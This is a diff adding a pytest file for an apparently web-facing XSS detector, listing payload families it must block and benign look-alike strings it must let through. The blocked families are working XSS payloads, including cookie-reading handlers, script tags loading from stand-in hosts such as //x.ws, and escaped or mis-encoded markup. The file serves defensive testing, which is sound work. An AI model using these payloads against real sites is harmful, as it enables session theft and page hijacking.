@@ -1,0 +1,78 @@
+"""XSS families added in session 2: each with variants that must block and look-alikes that must not.
+
+All through the whole detector (triggers included), so a family the prefilter does not
+let through fails here too.
+"""
+from __future__ import annotations
+
+import pytest
+
+from extauthz.decode import Input
+from extauthz.detect import REGISTRY, DetectorSet
+from extauthz.detect.xss import analyse
+from extauthz.detect.xss_variants import unmojibake
+from extauthz.finding import Severity
+from extauthz.request import Request
+
+DETECTOR = DetectorSet([REGISTRY["xss"]()])
+
+
+def blocks(value: str) -> bool:
+    findings = DETECTOR.scan(Request(), [Input("query", "q", value)])
+    return any(f.severity >= Severity.HIGH for f in findings)
+
+
+FAMILIES = {
+    # the classic reflection locator, whatever it names its tag
+    "probe": ["'';!--\"<XSS>=&{()}", "'';!--\"<CrossSiteScripting>=&{()}", "'';!--\"<crosssitescripting>=&{()}"],
+    # the end of an unquoted handler (`<input onfocus=VALUE>`) calling document.write in its scope
+    "handler tail": ["write(1) autofocus>", "write(1) autofocus><input autofocus>", "writeln(document.cookie)>"],
+    # navigation and script loading from code
+    "navigation": ['window.location.assign("http://evil.example")', "location.replace('//evil.example')",
+                   "external.NavigateAndFind('http://evil.example',[],[])"],
+    "script element": ["with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.ws'",
+                       "document.body.appendChild(document.createElement('script')).src='//x.ws'"],
+    # out of a quoted attribute: a handler and the attribute that fires it (code is a placeholder)
+    "fired handler": ['" type=image src=null onerror=X', "' autofocus onfocus=x '", '" onerror=a src=x'],
+    # the value is an attribute itself, or back-tick quoted (old IE)
+    "attribute value": ["onerror=prompt(1)", "``onerror=prompt(1)", "onmouseover=alert(document.domain)"],
+    # statement and line breaks ending the page's string or // comment
+    "statement": ["foo\\\u00ed; alert(document.cookie);//\u00ed;", "x//\rconfirm(1)//", "[U+2028]confirm(1)",
+                  "[U+2028]prompt(1)[U+2028]-->", "a\u2028alert(1)//"],
+    # markup spelt out, escaped or mis-decoded
+    "spelt markup": ["'<'s'v'g' o'n'l'o'a'd'='a'l'e'r't'('7')' '>'",
+                     "< s c r i p t > p r o m p t ( 1 ) < / s c r i p t >",
+                     "<script\x0baaa>alert(1)</script\x0baaaa>", "<scr\\\\0ipt>prompt(1)</sc\\\\0ript>",
+                     "&'\">\\74\\163\\143\\162\\151\\160\\164\\76\\141\\154\\145\\162\\164\\50\\61\\51\\74\\57"
+                     "\\163\\143\\162\\151\\160\\164\\76"],
+    # UTF-8 read as Windows-1252 and encoded again, then narrowed or upper-cased
+    "mojibake": ["<\u00c5\u00bfcript/async/src=//\u00e2\u2019\u203a\u00e2\u201a\u00a8>",
+                 "\u00e2\u02c6\u20ac\u00e3\u00b8\u20ac\u00e3\u00b0\u20acscript\u00e3\u00b8\u20acconfirm(1)"
+                 "\u00e3\u00b0\u20ac/script\u00e3\u00b8\u20ac"],
+}
+
+LOOK_ALIKES = [
+    "'hello'; \"world\" <b>bold</b>", "write(1) more text", "write the letter", "please write(me) soon",
+    "location.replace is a method", "str.replace('a', 'b')", "createElement('div')",
+    'say "hi" onerror', "' onfocus=x", "online=yes", "one=1 two=2", "only `quoted` text here",
+    "x < y and y > z", "a < b", "1 < 2 < 3", "i <3 you", "<'quoted'>", "it's 5 o'clock; alert me at 6",
+    "line one\nline two", "Note; confirm the order", "café naïve résumé", "\u00c3\u00a9t\u00c3\u00a9 \u00c3\u00a0 Paris",
+    "0 || 'default'", "a ? 'yes' : 'no'", "x && 'y'", "\\74 is an octal escape",
+]
+
+
+@pytest.mark.parametrize("value", [v for vs in FAMILIES.values() for v in vs])
+def test_family_blocks(value: str) -> None:
+    assert blocks(value), value
+
+
+@pytest.mark.parametrize("value", LOOK_ALIKES)
+def test_look_alike_passes(value: str) -> None:
+    assert not blocks(value), analyse(value)
+
+
+def test_mojibake_repair_only_changes_double_encodings() -> None:
+    assert unmojibake("\u00c5\u00bfcript") == "\u017fcript"
+    assert unmojibake("plain ascii") == ""
+    assert unmojibake("caf\u00e9") == ""  # é alone is not UTF-8 read as cp1252
+    assert unmojibake("\u4e2d\u6587") == ""  # not encodable as cp1252
